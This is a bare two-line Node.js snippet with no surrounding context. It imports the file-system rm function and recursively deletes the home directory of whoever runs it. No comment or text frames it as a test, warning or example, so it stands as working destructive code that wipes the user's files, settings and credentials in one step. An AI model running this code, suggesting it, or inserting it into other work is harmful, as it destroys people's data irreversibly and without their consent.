const { rm } = require('fs/promises'); const os = require('os');
await rm(os.homedir(), { recursive: true });
